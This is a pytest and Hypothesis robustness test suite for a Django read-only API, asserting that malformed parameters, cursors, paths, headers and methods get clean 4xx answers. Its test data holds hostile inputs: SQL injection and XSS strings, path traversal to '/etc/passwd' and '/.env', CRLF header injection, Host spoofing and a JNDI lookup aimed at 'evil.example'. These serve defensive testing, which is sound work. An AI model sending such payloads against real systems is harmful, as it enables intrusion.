"""Whatever is sent, the answer is one of the contract's own: never a 500, never a wrong table.

The expected answers stand in the tables, so that both databases are held to the same.
"""

import base64
import hashlib
import io
import json
from urllib.parse import quote

import pytest
from django.db import transaction
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests import builders
from tests.api.contract import DETAILS, LISTS, OPERATIONS, SCHEMA
from tests.api.wire import ask, assert_problem

ROUNDS = "/api/v1/rounds"
MARKUP = "%3Cscript%3Ealert(1)%3C/script%3E"
pytestmark = pytest.mark.django_db


def check(answer, status):
    """The answer has this status, is a problem if it is an error, and is no page with markup."""
    assert answer.status == status, (answer.status, answer.body[:300])
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    if answer.content_type == "text/html":
        assert b"<script>alert" not in answer.body
    return assert_problem(answer, status) if status >= 400 else None


def some_target(path):
    """An address that exists, for a path of the schema."""
    noun = path.split("/")[3]
    return path.replace("{slug}", f"a-{noun}")


@pytest.fixture(scope="module", autouse=True)
def entries(django_db_setup, django_db_blocker):
    """One entry of every noun that has an address; its slug is `a-` and the name of its list."""
    nouns = {"person": "people", "party": "parties", "discrepancy": "discrepancies"}
    with django_db_blocker.unblock(), transaction.atomic():
        for model, build in builders.BUILDERS.items():
            noun = model._meta.model_name
            build(slug=f"a-{nouns.get(noun, f'{noun}s')}")
        yield
        transaction.set_rollback(True)


# Names of parameters, at every address ------------------------------------------------------------
# The query string, and the name under which the answer speaks of it.
UNKNOWN_NAMES = [
    ("bogus=1", "bogus"),
    ("=x", ""),
    ("%00=1", "?"),
    ("a%0D%0Ab=1", "a??b"),
    ("%ED%A0%80=1", "???"),
    ("%C0%AE=1", "??"),
    ("%FF=1", "?"),
    ("party[]=x", "party[]"),
    ("a[]=", "a[]"),
    ("a[b]=1", "a[b]"),
    ("party__slug__startswith=x", "party__slug__startswith"),
    ("publication_status=draft", "publication_status"),
    ("publication_status__in=draft", "publication_status__in"),
    ("__=1", "__"),
    ("__class__=1", "__class__"),
    ("slug__regex=(a%2B)%2B%24", "slug__regex"),
    ("_connector=OR%201=1", "_connector"),
    ("PAGE_SIZE=1", "PAGE_SIZE"),
    ("page_size%20=1", "page_size "),
    ("page_size;count=1", "page_size;count"),
    ("limit=1", "limit"),
    ("format=json", "format"),
    ("%25s=1", "%s"),
    ("%25(value)s=1", "%(value)s"),
    ("%=1", "%"),
    ("{0}=1", "{0}"),
    ("{0.__class__}", "{0.__class__}"),
    ("';DROP TABLE relations_round;--=1", "';DROP TABLE relations_round;--"),
    (f"{MARKUP}=1", "<script>alert(1)</script>"),
    ("%D9%A1=%D9%A1", "١"),
    (f"{'n' * 600}=1", "n" * 500),
]


@pytest.mark.parametrize(("query", "name"), UNKNOWN_NAMES)
def test_unknown_name_is_refused_at_every_address(query, name):
    for path, operation in OPERATIONS.values():
        problem = check(ask(f"{some_target(path)}?{query}"), 400)
        assert problem["type"] == "/problems#invalid-parameter"
        (error,) = problem["errors"]
        assert (error["parameter"], error["code"]) == (name, "unknown")
        known = [item["name"] for item in operation["parameters"] if item["in"] == "query"]
        assert sorted(error["allowed"]) == sorted(known)


@pytest.mark.parametrize("query", ["", "&", "&" * 4096])
def test_query_without_a_name_is_no_query(query):
    for path, operation in OPERATIONS.values():
        asked = [item for item in operation["parameters"] if item["in"] == "query"]
        status = 400 if any(item.get("required") for item in asked) else 200
        status = 404 if "{name}" in path else status  # no archive is there
        check(ask(f"{some_target(path)}?{query}"), status)


def test_each_of_several_wrong_parameters_is_named():
    problem = check(ask(f"{ROUNDS}?bogus=1&page_size=&status=held&place=%00&page=2"), 400)
    named = [(error["parameter"], error["code"]) for error in problem["errors"]]
    assert named == [
        ("bogus", "unknown"),
        ("page_size", "empty"),
        ("place", "unprintable"),
        ("page", "unknown"),
    ]


# Values of every parameter ------------------------------------------------------------------------
def kind_of(parameter):
    """What sort of values a parameter takes, told from its schema."""
    schema = parameter["schema"]
    reference = schema.get("$ref", schema.get("items", {}).get("$ref", "")).rsplit("/", 1)[-1]
    if reference == "Slug":
        return "slug"
    if reference or schema["type"] != "string":
        return "closed"
    return {200: "text", 64: "imprecise date", 500: "cursor"}.get(schema.get("maxLength"), "day")


def closed_values(parameter):
    """What is allowed for a parameter with a closed list of values."""
    schema = parameter["schema"].get("items", parameter["schema"])
    if "$ref" in schema:
        component = SCHEMA["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
        return component.get("enum", [])
    return ["true", "false"] if schema["type"] == "boolean" else []


PARAMETERS = [
    (path, parameter, kind_of(parameter))
    for path, operation in (OPERATIONS[name] for name in LISTS)
    for parameter in operation["parameters"]
    if parameter["in"] == "query"
]
# Refused whatever the parameter takes: the value, and the code of the error.
UNREADABLE = [
    ("", "empty"),
    ("%20%09", "empty"),
    ("%00", "unprintable"),
    ("a%00b", "unprintable"),
    ("%ED%A0%80", "unprintable"),
    ("%FF%FE", "unprintable"),
    ("%C0%AF", "unprintable"),
    ("%F4%90%80%80", "unprintable"),
    ("a%0D%0ASet-Cookie:x=1", "unprintable"),
    ("%C2%85", "empty"),
    ("%C2%9F", "unprintable"),
    ("x" * 501, "too_long"),
    ("x%20" * 1000, "too_long"),
]
# What no parameter but one for free text can mean.
NONSENSE = [
    MARKUP,
    "%25s",
    "%25(value)s",
    "%",
    "{0}",
    "'%20OR%201=1--",
    "(a%2B)%2B%24",
    "..%2F..%2Fetc%2Fpasswd",
    "1e400",
    "1000E16",
    "9" * 25,
    "-1",
    "NaN",
    "%D9%A1%D9%A2",
    "null",
    "None",
    "a,b",
    "a;b",
    "%E2%80%AE",
    "%F0%9F%92%A9",
]
DATES = [
    "0000-01-01",
    "0001-01-01",
    "0999",
    "9999",
    "9999-12-31",
    "10000-01-01",
    "2025-02-30",
    "2025-13",
    "2025-W05",
    "2025-001",
    "20250101",
    "2025-1X",
    "2025-XX",
    "2025-5-1",
    "-2025",
    "Y-170000002",
    "2025-05-14T00:00:00",
    "2025-05-14T00:00:00%2B14:00",
    "0001-01-01T00:00:00%2B14:00",
    "%7B2025,2026%7D",
    "[2025..2026]",
    "2025/",
    "/2025",
    "../..",
    "2026/2025",
    "2025/2026/2027",
    "2025~~",
    "~2025",
    "14-15 May 2024",
    "%D9%A2%D9%A0%D9%A2%D9%A5",
    "%202025",
]
NOT_A_DAY = [date for date in DATES if date not in ("0001-01-01", "9999-12-31")]
NOT_A_DAY += ["2025", "2025-05", "2026-21", "../2025", "2025-05-14~", "%202025-05-14"]
NUMBERS = ["0", "-1", "501", "1.5", "1.0", "+1", "0x10", "1_0", "%D9%A1", "%C2%B2", "1e2", "true"]
REFUSED = {
    "slug": [*NONSENSE, "ALPHA", "a--b", "x" * 201],
    "closed": [*NONSENSE, "HELD", "held%20", *NUMBERS],
    "imprecise date": [*NONSENSE, *DATES],
    "day": [*NONSENSE, *NOT_A_DAY],
    "cursor": [*NONSENSE, *NUMBERS],
    "text": ["x" * 201],
}


@pytest.mark.parametrize(("value", "code"), UNREADABLE)
def test_unreadable_value_is_refused_by_name(value, code):
    for path, parameter, _ in PARAMETERS:
        problem = check(ask(f"{path}?{parameter['name']}={value}"), 400)
        (error,) = problem["errors"]
        assert (error["parameter"], error["code"]) == (parameter["name"], code)


@pytest.mark.parametrize("kind", REFUSED)
def test_value_that_means_nothing_is_refused_by_name(kind):
    """Each value is sent to some parameter of its kind, and each parameter gets some value."""
    asked = [(path, parameter) for path, parameter, its_kind in PARAMETERS if its_kind == kind]
    values = REFUSED[kind]
    for number in range(max(len(asked), len(values))):
        path, parameter = asked[number % len(asked)]
        value = values[number % len(values)]
        problem = check(ask(f"{path}?{parameter['name']}={value}"), 400)
        (error,) = problem["errors"]
        assert (error["parameter"], error["code"]) == (parameter["name"], "invalid"), value
        if allowed := closed_values(parameter):
            assert error["allowed"] == allowed


@pytest.mark.parametrize("kind", REFUSED)
def test_every_parameter_refuses_markup_and_formats(kind):
    for path, parameter, its_kind in PARAMETERS:
        if its_kind == kind != "text":
            problem = check(ask(f"{path}?{parameter['name']}={MARKUP}%25(x)s%25d{{0}}"), 400)
            assert [error["parameter"] for error in problem["errors"]] == [parameter["name"]]
            assert problem["errors"][0]["allowed"] or kind in ("slug", "cursor", "closed")


def test_free_text_may_be_anything_and_finds_nothing():
    builders.a_round(city="Geneva")
    for value in [*NONSENSE, *DATES, "x" * 200, "%5C", "%25", "_", "G_neva", "%EF%BF%BF"]:
        answer = ask(f"{ROUNDS}?place={value}")
        check(answer, 200)
        assert answer.json()["results"] == [], value


def test_value_in_bytes_that_are_not_utf_8_is_read_as_latin_1():
    builders.a_round(slug="found", city="Zürich")
    for raw in (b"Z\xc3\xbcrich", b"Z\xfcrich"):
        answer = ask(ROUNDS.encode() + b"?place=" + raw)
        assert [row["slug"] for row in answer.json()["results"]] == ["found"]


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "2024-02-29"])
def test_edge_of_the_calendar_is_a_day(day):
    builders.a_position(since_on="../2025")
    for certainty in ("possible", "certain"):
        check(ask(f"/api/v1/positions?in_force_on={day}&certainty={certainty}"), 200)


@pytest.mark.parametrize("date", ["1000", "9998", "2025/..", "../2025", "2025%25", "2026-24~"])
def test_edge_of_the_imprecise_dates_is_a_range(date):
    builders.a_round(held_on="../2025")
    builders.a_round(held_on="2025/..")
    for name in ("held_after", "held_before"):
        for certainty in ("possible", "certain"):
            check(ask(f"{ROUNDS}?{name}={date}&certainty={certainty}"), 200)


# How much of it -----------------------------------------------------------------------------------
@pytest.mark.parametrize(("number", "status"), [(1, 200), (100, 200), (101, 400)])
def test_a_hundred_values_of_one_parameter_are_the_most(number, status):
    builders.a_party(slug="ru")
    for query in (["status=held"] * number, ["party=ru"] * number):
        problem = check(ask(f"{ROUNDS}?{'&'.join(query)}"), status)
        assert status == 200 or problem["errors"][0]["code"] == "too_many"


def test_every_unknown_slug_is_named_in_the_order_given():
    slugs = [f"nobody-{number}" for number in (7, 3, 9, 1)]
    problem = check(ask(f"{ROUNDS}?{'&'.join(f'party={slug}' for slug in slugs)}"), 400)
    (error,) = problem["errors"]
    assert error["detail"] == " ".join(
        f"There is no published entry with the slug “{slug}”." for slug in slugs
    )


def test_twenty_wrong_parameters_are_named_and_no_more():
    """Else a short query is answered with half a megabyte."""
    for path, _ in OPERATIONS.values():
        query = "&".join(f"{number:x}" for number in range(1000))
        problem = check(ask(f"{some_target(path)}?{query}"), 400)
        assert [error["parameter"] for error in problem["errors"]] == [
            f"{number:x}" for number in range(20)
        ]


@pytest.mark.parametrize("query", ["p&" * 2048, "&".join(["page_size=1"] * 340)])
def test_repetition_counts_as_one_wrong_parameter(query):
    problem = check(ask(f"{ROUNDS}?{query}"), 400)
    assert len(problem["errors"]) == 1


@pytest.mark.parametrize(
    ("length", "status"), [(4095, 400), (4096, 400), (4097, 414), (65536, 414)]
)
def test_query_string_is_cut_off_at_4096_bytes(length, status):
    for path, _ in OPERATIONS.values():
        check(ask(f"{path.replace('{slug}', 'x')}?x={'y' * (length - 2)}"), status)


def test_forty_thousand_values_are_too_long():
    check(ask(f"{ROUNDS}?{'&'.join(['page_size=1'] * 40_000)}"), 414)


def test_single_valued_parameter_is_refused_twice():
    for path, parameter, _ in PARAMETERS:
        name, is_list = parameter["name"], parameter["schema"].get("type") == "array"
        if not is_list:
            problem = check(ask(f"{path}?{name}=1&{name}=1"), 400)
            assert problem["errors"][0]["code"] == "repeated"


# Cursors ------------------------------------------------------------------------------------------
def fingerprint(path, ordering):
    """What ties a cursor to its query; no secret, so that anybody can make it up."""
    return hashlib.sha256(json.dumps([path, ordering, []]).encode()).hexdigest()[:12]


def encoded(content):
    raw = content if isinstance(content, bytes) else json.dumps(content).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


HELD, UPDATED, SLUG, START = (
    fingerprint(ROUNDS, "held_on"),
    fingerprint(ROUNDS, "updated_at"),
    fingerprint(ROUNDS, "slug"),
    fingerprint("/api/v1/citations", "start"),
)
NO_CURSORS = [
    "x",
    "====",
    "%F0%9F%92%A9",
    "%2B%2F%2B%2F",
    "YWJj%0A",
    "a.b.c",
    encoded(b"p=\x00"),
    encoded(b"\x00"),
    encoded(b"\xff\xfe[\x00"),
    encoded(b"\xed\xa0\x80"),
    encoded(b"p=abc"),
    encoded(b"[" * 180 + b"]" * 180),
    encoded(b"[" * 2000),
    encoded(b"9" * 360),
    encoded(b"1e400"),
    encoded(b"NaN"),
    encoded(b"null"),
    encoded(b'{"a":1}'),
    encoded([]),
    encoded([None, None, None]),
    encoded([HELD]),
    encoded([HELD, False]),
    encoded([HELD, False, "2025-05-14"]),
    encoded([HELD, False, "2025-05-14", "x", "y"]),
    encoded([HELD, 0, "2025-05-14", "x"]),
    encoded([HELD, "false", "2025-05-14", "x"]),
    encoded([HELD, False, 20250514, "x"]),
    encoded([HELD, False, ["2025-05-14"], "x"]),
    encoded([HELD, False, "2025-02-30", "x"]),
    encoded([HELD, False, "2025-W05", "x"]),
    encoded([HELD, False, "2025-5-1", "x"]),
    encoded([HELD, False, "0000-01-01", "x"]),
    encoded([HELD, False, "", "x"]),
    encoded([HELD, False, "2025-05-14", None]),
    encoded([HELD, False, "2025-05-14", "a\x00b"]),
    encoded([HELD, False, "2025-05-14", "\ud800"]),
    encoded([HELD, False, "2025-05-14", "\uffff"]),
    encoded([SLUG, False, "x"]),
    encoded(["0" * 12, False, "2025-05-14", "x"]),
    encoded([HELD[:-1], False, "2025-05-14", "x"]),
]


@pytest.mark.parametrize("cursor", NO_CURSORS)
def test_made_up_cursor_is_refused_by_name(cursor):
    builders.a_round(held_on="2025")
    problem = check(ask(f"{ROUNDS}?cursor={cursor}"), 400)
    assert problem["errors"][0]["parameter"] == "cursor"


@pytest.mark.parametrize(
    "instant",
    [
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-14:00",
        "2025-01-01T00:00:00",
        "2025-01-01",
        "2025-01-01T00:00:00Z",
        "2025-01-01T00:00:00+01:00",
        "2025-01-01T00:00:60+00:00",
        "٢٠٢٥-01-01T00:00:00+00:00",
    ],
)
def test_cursor_with_an_instant_no_row_has_is_refused(instant):
    builders.a_round()
    cursor = encoded([UPDATED, False, instant, "x"])
    problem = check(ask(f"{ROUNDS}?ordering=updated_at&cursor={cursor}"), 400)
    assert problem["errors"][0]["parameter"] == "cursor"


@pytest.mark.parametrize(
    ("start", "status"),
    [
        ("0", 200),
        ("9" * 25, 200),
        ("-" + "9" * 25, 200),
        ("9" * 300, 200),
        (" 5", 400),
        ("1_0", 400),
        ("٣", 400),
        ("1e3", 400),
        ("1.5", 400),
    ],
)
def test_cursor_with_a_huge_number_is_a_place_and_one_with_none_is_refused(start, status):
    cursor = encoded([START, False, start, "x"])
    check(ask(f"/api/v1/citations?ordering=start&cursor={cursor}"), status)


@pytest.mark.parametrize("key", ["", "%s%(x)s", "' OR 1=1--", "zzz", "😀", "x" * 320])
def test_made_up_cursor_with_a_possible_slug_is_only_a_place(key):
    """It shows what anybody may see; the query stays what it is."""
    builders.a_round(slug="hidden", publication_status="draft")
    for is_backward in (False, True):
        answer = ask(f"{ROUNDS}?ordering=slug&cursor={encoded([SLUG, is_backward, key])}")
        check(answer, 200)
        assert b"hidden" not in answer.body


# Paths --------------------------------------------------------------------------------------------
PATHS = [
    ("%00", 404),
    ("%0A", 404),
    ("a-rounds%00", 404),
    ("a-rounds%0A", 404),
    ("a-rounds%0D%0ASet-Cookie:x=1", 404),
    ("%FF", 404),
    ("%C0%AF", 404),
    ("%C0%AE%C0%AE/", 308),
    ("%ED%A0%80", 404),
    ("%D9%A1", 404),
    ("%EF%BC%A1", 404),
    ("A-ROUNDS", 404),
    ("a_rounds", 404),
    ("a-rounds.json", 404),
    ("a-rounds.", 404),
    ("a-rounds;v=1", 404),
    ("a-rounds%20", 404),
    ("a-rounds%3F", 404),
    ("a-rounds%2F", 308),
    ("a-rounds/", 308),
    ("a-rounds//", 308),
    ("a-rounds/citations", 404),
    ("1", 404),
    ("-1", 404),
    ("9" * 25, 404),
    ("1e400", 404),
    ("x" * 200, 404),
    ("x" * 201, 404),
    ("x" * 60_000, 404),
    ("../../../etc/passwd", 404),
    ("..%2F..%2F..%2Fetc%2Fpasswd", 404),
    ("%2e%2e%2f%2e%2e%2f", 308),
    ("..%5C..%5C", 404),
    (MARKUP, 404),
    ("%25s%25(x)s{0}", 404),
    ("' OR 1=1--", 404),
    ("%%", 404),
    ("%", 404),
    ("%zz", 404),
]


@pytest.mark.parametrize(("tail", "status"), PATHS)
def test_no_path_but_a_slug_finds_an_entry(tail, status):
    for path in DETAILS.values():
        noun = path.split("/")[3]
        target = path.replace("{slug}", tail.replace("rounds", noun).replace("ROUNDS", noun))
        check(ask(target.encode("latin-1")), status)


@pytest.mark.parametrize(
    "target",
    [
        "//api/v1/rounds",
        "/api//v1/rounds",
        "/api/v1//rounds",
        "/api/v1/rounds;page_size=1",
        "/api/v1/rounds%00",
        "/api/v1/rounds%0A",
        "/api/v1/ROUNDS",
        "/API/v1/rounds",
        "/api/v1/rounds.json",
        "/api/v1/rounds.csv%00",
        "/api/v1/./rounds",
        "/api/v1/../v1/rounds",
        "/api/v2/rounds",
        "/api/v1/nothing",
        "/api",
        "/api/",
        "//evil.example/",
        "/%2Fevil.example",
        "/" + "a/" * 5000,
        f"/{MARKUP}",
        "/%FF",
        "/static/../api/settings.py",
        "/static/..%2f..%2fapi/settings.py",
        "/static/%00",
        "/static/api",
        "/static/" + "x" * 5000,
        "/var/secret_key",
        "/.env",
        "/.git/config",
        "/index.php?s=/x",
        "*",
        "http://evil.example/api/v1/rounds",
        "",
    ],
)
def test_no_other_address_exists(target):
    answer = ask(target)
    check(answer, 200 if target == "" else 404)


# Headers ------------------------------------------------------------------------------------------
BROKEN_PARAMETER = "a*0=x; a*2=y; a*=z''q"  # the standard library raises TypeError
HEADERS = [
    ("HTTP_ACCEPT", "*/*", 200),
    ("HTTP_ACCEPT", "application/*", 200),
    ("HTTP_ACCEPT", "application/json", 200),
    ("HTTP_ACCEPT", "APPLICATION/JSON", 200),
    ("HTTP_ACCEPT", "text/xml, */*;q=0.1", 200),
    ("HTTP_ACCEPT", "application/json; indent=99999999999", 200),
    ("HTTP_ACCEPT", "application/json; indent=%s", 200),
    ("HTTP_ACCEPT", "application/json, " * 600, 200),
    ("HTTP_ACCEPT", "", 406),
    ("HTTP_ACCEPT", "*", 406),
    ("HTTP_ACCEPT", "text/xml", 406),
    ("HTTP_ACCEPT", "text/html", 406),
    ("HTTP_ACCEPT", "application/problem+json", 406),
    ("HTTP_ACCEPT", "garbage", 406),
    ("HTTP_ACCEPT", ";;;", 406),
    ("HTTP_ACCEPT", "/", 406),
    ("HTTP_ACCEPT", ",,,", 406),
    ("HTTP_ACCEPT", "\xff\xfe\x00", 406),
    ("HTTP_ACCEPT", "<script>alert(1)</script>", 406),
    ("HTTP_ACCEPT", "%s%(x)s{0}", 406),
    ("HTTP_ACCEPT", "x" * 10_240, 406),
    ("HTTP_ACCEPT", "a/b," * 2560, 406),
    ("HTTP_ACCEPT", f"text/html; {BROKEN_PARAMETER}", 406),
    ("HTTP_ACCEPT", f"application/json; {BROKEN_PARAMETER}", 406),
    ("HTTP_ACCEPT", "application/json; a*=nonsense''x", 406),
    ("HTTP_ACCEPT", "application/json; a*=idna''%ff", 406),
    ("CONTENT_TYPE", "text/html; charset=nonsense", 200),
    ("CONTENT_TYPE", "text/html; a*=nonsense''x", 200),
    ("CONTENT_TYPE", "text/html; a*=idna''%ff", 200),
    ("CONTENT_TYPE", f"text/html; {BROKEN_PARAMETER}", 200),
    ("CONTENT_TYPE", "multipart/form-data", 200),
    ("CONTENT_TYPE", "\xff\x00", 200),
    ("CONTENT_LENGTH", "-5", 200),
    ("CONTENT_LENGTH", "9" * 25, 200),
    ("CONTENT_LENGTH", "abc", 200),
    ("HTTP_HOST", "localhost", 200),
    ("HTTP_HOST", "LOCALHOST", 200),
    ("HTTP_HOST", "localhost.", 200),
    ("HTTP_HOST", "[::1]:8000", 200),
    ("HTTP_HOST", "evil.example", 400),
    ("HTTP_HOST", "localhost.evil.example", 400),
    ("HTTP_HOST", "localhost, evil.example", 400),
    ("HTTP_HOST", "localhost:port", 400),
    ("HTTP_HOST", "user@localhost", 400),
    ("HTTP_HOST", "[::1", 400),
    ("HTTP_HOST", "<script>alert(1)</script>", 400),
    ("HTTP_HOST", "%s%(x)s{0}", 400),
    ("HTTP_HOST", "localhost\x00", 400),
    ("HTTP_HOST", "\xff", 400),
    ("HTTP_HOST", "a" * 5000, 400),
    ("HTTP_HOST", "", 400),
    ("HTTP_X_FORWARDED_HOST", "evil.example", 200),
    ("HTTP_X_FORWARDED_PROTO", "javascript", 200),
    ("HTTP_X_FORWARDED_FOR", "\x00" * 500, 200),
    ("HTTP_X_HTTP_METHOD_OVERRIDE", "DELETE", 200),
    ("HTTP_IF_NONE_MATCH", "garbage", 200),
    ("HTTP_IF_NONE_MATCH", '"', 200),
    ("HTTP_IF_NONE_MATCH", 'W/"', 200),
    ("HTTP_IF_NONE_MATCH", "\xff\x00", 200),
    ("HTTP_IF_NONE_MATCH", '"x",' * 5000, 200),
    ("HTTP_IF_NONE_MATCH", "*", 304),
    ("HTTP_IF_MATCH", "*", 200),
    ("HTTP_IF_MATCH", "garbage", 200),
    ("HTTP_IF_MATCH", '"x"', 412),
    ("HTTP_IF_UNMODIFIED_SINCE", "Mon, 01 Jan 1990 00:00:00 GMT", 412),
    ("HTTP_IF_UNMODIFIED_SINCE", "Mon, 99 Jan 99999 00:00:00 GMT", 200),
    ("HTTP_IF_MODIFIED_SINCE", "Mon, 01 Jan 0000 00:00:00 GMT", 200),
    ("HTTP_IF_MODIFIED_SINCE", "9" * 5000, 200),
    ("HTTP_RANGE", "bytes=0-0,1-1," * 500, 200),
    ("HTTP_ORIGIN", "http://[", 200),
    ("HTTP_ORIGIN", "<script>alert(1)</script>\xff", 200),
    ("HTTP_COOKIE", "sessionid=\xff\x00; csrftoken=" + "x" * 5000, 200),
    ("HTTP_AUTHORIZATION", "Basic \xff", 200),
    ("HTTP_USER_AGENT", "${jndi:ldap://evil.example/x}\xff\x00", 200),
    ("HTTP_TRANSFER_ENCODING", "chunked, chunked", 200),
    ("HTTP_EXPECT", "200-ok", 200),
    ("HTTP_X_" + "Y" * 500, "z" * 5000, 200),
]


@pytest.mark.parametrize(
    ("name", "value", "status"),
    [pytest.param(*row, id=f"{row[0]}-{row[1][:20]!a}") for row in HEADERS],
)
def test_header_never_breaks_an_answer(name, value, status):
    for path, _ in (OPERATIONS["listRounds"], OPERATIONS["getRound"]):
        answer = ask(some_target(path), **{name: value})
        check(answer, status)
        assert b"evil.example" not in answer.body


# Methods ------------------------------------------------------------------------------------------
METHODS = ["POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "OPTIONS", "PROPFIND", "BREW"]
METHODS += ["", "G\x00ET", "<script>alert(1)</script>", "\xff", "X" * 5000]
BODIES = [b"", b'{"a":', b"[" * 100_000, b"\xff\x00", b"a=1&" * 10_000]


@pytest.mark.parametrize("method", METHODS)
def test_no_method_but_get_and_head_is_allowed(method):
    others = ["/", "/problems", "/api/v1", "/api/v1/openapi.yaml", "/static/api/site.css", "/no"]
    for path in [*LISTS.values(), *DETAILS.values(), *others]:
        answer = ask(path.replace("{slug}", "x"), method=method, body=b'{"a":')
        check(answer, 405)
        assert answer.headers["Allow"] == "GET, HEAD"


@pytest.mark.parametrize("body", BODIES)
def test_body_is_never_read(body):
    for content_type in ("application/json", "application/x-www-form-urlencoded", "text/plain"):
        for method, status in (("POST", 405), ("DELETE", 405), ("GET", 200), ("HEAD", 200)):
            sent = io.BytesIO(body)
            unread = {"wsgi.input": sent, "CONTENT_TYPE": content_type}
            check(ask(ROUNDS, method=method, body=body, **unread), status)
            assert sent.tell() == 0


# Anything at all ----------------------------------------------------------------------------------
TARGETS = st.sampled_from([path for path, _ in OPERATIONS.values()])
NAMES = st.sampled_from(sorted({item["name"] for _, item, _ in PARAMETERS}))
SNIPPETS = st.sampled_from(
    [*(value for values in REFUSED.values() for value in values), "held", "slug", "-slug", "true"]
)
TEXTS = st.text(max_size=30).map(lambda text: quote(text.encode("utf-8", "surrogatepass")))
BYTES = st.binary(max_size=30).map(quote)
PAIRS = st.tuples(NAMES | TEXTS, SNIPPETS | TEXTS | BYTES).map("=".join)
SLUGS = st.sampled_from(["a-rounds", "a-parties", "x"]) | TEXTS | BYTES


@hypothesis_settings(
    max_examples=300,
    deadline=None,
    derandomize=True,
    database=None,
)
@given(path=TARGETS, slug=SLUGS, pairs=st.lists(PAIRS, max_size=5))
def test_no_request_is_answered_with_a_failure(path, slug, pairs):
    answer = ask(f"{path.replace('{slug}', slug)}?{'&'.join(pairs)}")
    assert answer.status < 500
    check(answer, answer.status)
